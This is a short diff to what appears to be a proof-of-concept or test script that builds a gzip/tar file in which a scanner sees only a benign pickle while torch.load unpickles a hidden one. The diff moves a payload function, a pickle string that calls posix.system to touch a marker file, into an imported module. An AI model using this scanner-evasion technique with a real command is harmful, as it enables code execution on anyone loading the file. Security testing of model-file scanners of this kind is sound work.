@@ -7,10 +7,8 @@ early) and scans only the decompressed benign pickle; torch.load tries tarfile.o
 file first (torch/serialization.py _legacy_load -> legacy_load) and pickle.load()s 'storages'.
 Usage: tar_in_gzip_extra.py OUT MARKER"""
 import sys, struct, zlib, pickle
-from tarblocks import header
+from tarblocks import header, payload
 
-def payload(marker):
-    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
 def tar_header(prefix12, name, size):
     return header(prefix12 + name, size)
 def build(marker):
